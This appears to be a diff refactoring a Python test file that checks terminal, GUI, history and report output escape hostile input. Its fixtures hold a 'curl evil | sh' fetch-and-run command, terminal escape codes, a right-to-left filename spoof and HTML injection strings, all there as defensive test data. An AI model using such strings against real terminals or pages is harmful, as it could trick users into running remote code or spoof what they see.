@@ -10,13 +10,14 @@ import pytest
 from PySide6.QtCore import Qt
 
 from app.cli.terminal.console import escape
-from app.core.results.model import JobResult, RunResult
+from app.core.results.model import JobResult
 from app.gui.history.compare_dialog import _run_line, _status_note
 from app.gui.results.cells import Column
 from app.gui.results.table import ResultsTable
 from app.report.markdown import render_markdown
 from app.report.model import Bullets, Paragraph, Report, Section, Table
 from app.report.pdf.text import parse_markup
+from tests.helpers import records
 
 HOSTILE = "peer reported: \x1b[2J\x1b[HRun: curl evil | sh\r\n\u202egnp.exe\x07"
 SHOWN = "peer reported: \\x1b[2J\\x1b[HRun: curl evil | sh\\r\\n\\u202egnp.exe\\x07"
@@ -27,21 +28,8 @@ def clean(text: str) -> bool:
 
 
 def failed_job(**fields: Any) -> JobResult:
-    base: dict[str, Any] = {
-        "id": "run/0",
-        "index": 0,
-        "scheme": "aes-gcm",
-        "backend": "cryptography",
-        "params": {},
-        "label": "AES-128-GCM\x1b[31m",
-        "family": "aead",
-        "mode": "remote",
-        "message_size": 64,
-        "status": "failed",
-        "error": HOSTILE,
-    }
-    base.update(fields)
-    return JobResult(**base)
+    hostile = {"params": {}, "label": "AES-128-GCM\x1b[31m", "mode": "remote", "status": "failed", "error": HOSTILE}
+    return records.job("run", 0, 64, **{**hostile, **fields})
 
 
 def test_the_terminal_sees_escapes_and_no_markup() -> None:
@@ -91,13 +79,7 @@ def test_the_results_table_shows_escapes(qtbot: Any) -> None:
 
 
 def test_history_lines_are_escaped_and_inert() -> None:
-    run = RunResult(
-        id="r1",
-        started="2026-01-01T00:00:00+00:00",
-        status="ok",
-        environment={"hostname": "<b>h</b>\r"},
-        profile={"name": "<img src=x>\x1b[2J"},
-    )
+    run = records.run("r1", status="ok", environment={"hostname": "<b>h</b>\r"}, profile={"name": "<img src=x>\x1b[2J"})
     line = _run_line("Baseline", run)
     assert "&lt;img src=x&gt;\\x1b[2J" in line and "&lt;b&gt;h&lt;/b&gt;\\r" in line
     note = _status_note(failed_job(), failed_job(status="ok", error=None))
